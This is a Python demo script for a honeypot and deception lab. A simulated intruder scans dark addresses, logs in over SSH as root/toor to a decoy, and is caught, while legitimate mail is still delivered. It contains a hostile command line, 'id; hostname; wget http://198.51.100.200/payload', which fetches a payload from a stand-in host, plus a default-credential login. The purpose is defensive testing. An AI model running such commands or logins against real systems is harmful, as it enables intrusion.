"""The demo's intruder: scans unpublished addresses, reaches decoys at real servers' addresses, is caught.

Meanwhile a legitimate sender's mail is delivered. At the end an operator deletes the decision.
"""

import json
import socket
import tempfile
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

from controller.api.client import ApiClient
from lab import probes
from lab.demo import console, tools
from lab.demo.attempts import Outcome
from lab.lab import Lab
from lab.mail import Letter, send
from lab.messages import Content, build
from lab.services import decoys
from lab.services.controllers import api_address
from lab.trace_logs import Bookmark, whole_lines

_INTRUDER, _ADDRESS = "attacker", "198.51.100.66"
_DECOY = "decoy1"
_WATCHER = "partner"
_DARK = (("203.0.113.50", 22), ("203.0.113.51", 22), ("203.0.113.52", 23))
_SERVER, _RECIPIENT = "203.0.113.10", "alice@acme.example"
_USER, _PASSWORD = "root", "toor"
_COMMANDS = "id; hostname; wget http://198.51.100.200/payload"
_PATIENCE_S = 10.0
_LINE_BYTES = 512


def story(lab: Lab) -> list[Outcome]:
    """Play the whole story and print each step; return what was expected, and whether it happened."""
    api = ApiClient(api_address(lab.places))
    found = [_scan(lab), _decided(api)]
    found.append(_log_in(lab))
    found += _mail(lab)
    found.append(_log(lab))
    found += _receipt_and_pardon(lab, api)
    found.append(_compared(api))
    return found


def _scan(lab: Lab) -> Outcome:
    """Connect to unused addresses; any host that answers there is a decoy."""
    for address, port in _DARK:
        with _connected(lab, address, port) as connection:
            first = _first_line(connection)
        console.fact("scans", f"[{address}]:{port}, where nothing is published: answered by {first!r}")
    return Outcome("a decoy answers a scan of unused addresses", "answered", True)


def _decided(api: ApiClient) -> Outcome:
    begun = time.monotonic()
    title = "the edge makes a decision about the intruder automatically"
    known = _await(lambda: api.get(f"/v1/sources/{_ADDRESS}"), lambda known: bool(known["decisions"]))
    if not known["decisions"]:
        return Outcome(title, f"not within {_PATIENCE_S:.0f} s", False)
    decision = known["decisions"][0]
    console.fact("decided", f"{decision['action']} for {decision['duration_s']:.0f} s: {decision['reason']}")
    is_good = decision["action"] == "decoy" and decision["origin"] == "postern"
    return Outcome(title, f"within {time.monotonic() - begun:.1f} s", is_good)


def _log_in(lab: Lab) -> Outcome:
    """With a real SSH client, at the address of acme's real server."""
    with tempfile.TemporaryDirectory() as directory:
        answer = Path(directory) / "password"
        answer.write_text(f"#!/bin/sh\necho {_PASSWORD}\n", encoding="utf-8")
        answer.chmod(0o700)
        # Nothing of the user's own: no configuration, no keys, no agent that offers too many.
        client = ["ssh", "-F", "none", "-o", "PreferredAuthentications=password"]
        client += ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null"]
        client += ["-o", "LogLevel=ERROR", f"{_USER}@{_SERVER}", _COMMANDS]
        asked = ["env", f"SSH_ASKPASS={answer}", "SSH_ASKPASS_REQUIRE=force", "DISPLAY=:0", *client]
        done = tools.run(lab.command_in(_INTRUDER, asked))
    console.fact("logs in", f"ssh {_USER}@{_SERVER} '{_COMMANDS}'")
    console.fact("sees", done.stdout + done.stderr)
    is_good = "uid=0(root)" in done.stdout
    return Outcome("at acme's real address the intruder logs in to a decoy", "logged in", is_good)


def _mail(lab: Lab) -> Iterator[Outcome]:
    """The intruder and a legitimate sender, at the same address: different hosts answer."""
    log = lab.places.log("acme-mx.postfix")
    before = log.stat().st_size
    told = _send(lab, _INTRUDER)
    console.fact("mails", f"{_RECIPIENT} at [{_SERVER}]:25, reply: {told}")
    yield Outcome("the decoy of a mail server accepts no message", told[:26], told.startswith("4"))
    told = _send(lab, "sender")
    console.fact("meanwhile", f"a legitimate sender's mail to {_RECIPIENT}: {told}")
    yield Outcome("a legitimate sender's mail is delivered", told[:26], told.startswith("250"))
    with log.open(encoding="utf-8", errors="replace") as file:
        file.seek(before)
        is_seen = _ADDRESS in file.read()
    what = "acme-mx saw the intruder" if is_seen else "acme-mx did not see it"
    yield Outcome("the intruder's mail never reaches acme's server", what, not is_seen)


def _send(lab: Lab, host: str) -> str:
    message = build(Content.CLEAN, "someone@sender.example", _RECIPIENT)
    letter = Letter("someone@sender.example", _RECIPIENT, _SERVER, message, False)
    return send(lab.places.pin(host), letter).reply


def _log(lab: Lab) -> Outcome:
    """Check what the decoy recorded."""
    file = decoys.journal(lab.places, _DECOY, "cowrie")
    events = _await(
        lambda: _events(file), lambda events: any(each["event"] == "CommandEntered" for each in events)
    )
    kept = [
        each
        for each in events
        if each["event"] in ("LoginTried", "CommandEntered") and each["source"] == _ADDRESS
    ]
    for event in kept[:4]:
        console.fact("log", json.dumps(event))
    is_whole = all(each.get("tenant") == "acme" and each.get("session") for each in kept)
    return Outcome("the decoy records logins and commands", f"{len(kept)} events", bool(kept) and is_whole)


def _receipt_and_pardon(lab: Lab, api: ApiClient) -> Iterator[Outcome]:
    title = "the receipt counts the packets that matched the decision"
    decisions = api.get(f"/v1/sources/{_ADDRESS}")["decisions"]
    if not decisions:
        yield Outcome(title, "there is no decision", False)
        return
    decision = decisions[0]
    answer = api.delete(f"/v1/decisions/{decision['id']}")
    (receipt,) = [each["receipt"] for each in answer["receipts"]]
    gone = "confirmed by the switches" if answer["is_confirmed"] else "NOT confirmed by all switches"
    for row in receipt["switches"]:
        text = f"decision {decision['id']} on {row['switch']}, cookie {receipt['cookie']}"
        console.fact("receipt", f"{text}, {row['state']}, {row['packets']} packets; deleted, {gone}")
    hits = sum(row["packets"] or 0 for row in receipt["switches"])
    yield Outcome(title, f"{hits} packets", hits > 0)
    with _connected(lab, _SERVER, 25) as connection:
        greeting = _first_line(connection)
    console.fact("pardoned", f"at [{_SERVER}]:25, greeted with {greeting!r} by acme's own server")
    is_good = answer["is_confirmed"] and "acme" in greeting
    yield Outcome(
        "after the decision is deleted, the real server answers again at once", greeting[:26], is_good
    )


def _compared(api: ApiClient) -> Outcome:
    """Look at acme's real server and at its decoy from the same host, with all tools, nmap included."""
    command = ["persona", "compare", "acme", "--from", _WATCHER, "--address", _SERVER]
    command += ["--domain", "acme.example", "--pause", "20ms"]
    typed = [*tools.postern(*command), "--api", api.address]
    done = tools.run(typed, patience_s=120)
    console.fact("compares", f"postern {' '.join(command)}")
    console.fact("sees", (done.stderr if done.returncode else done.stdout).strip())
    count = next((line for line in done.stdout.splitlines() if " tells;" in line), "no answer")
    title = "nothing gives the decoy away, not even to nmap -sV"
    return Outcome(title, count.partition(";")[0], done.returncode == 0)


@contextmanager
def _connected(lab: Lab, address: str, port: int) -> Iterator[socket.socket]:
    with probes.connect(lab.places.pin(_INTRUDER), address, port, _PATIENCE_S) as connection:
        yield connection


def _first_line(connection: socket.socket) -> str:
    """Return the first line, without Telnet's options."""
    line = connection.recv(_LINE_BYTES).split(b"\n")[0].decode("ascii", "ignore")
    return "".join(filter(str.isprintable, line)).strip()


def _events(file: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in whole_lines(file, Bookmark({}))]


def _await(ask: Callable[[], Any], is_so: Callable[[Any], bool]) -> Any:
    """Ask repeatedly; return the first answer that satisfies `is_so`, or the last one."""
    deadline = time.monotonic() + _PATIENCE_S
    while not is_so(answer := ask()) and time.monotonic() < deadline:
        time.sleep(0.05)
    return answer
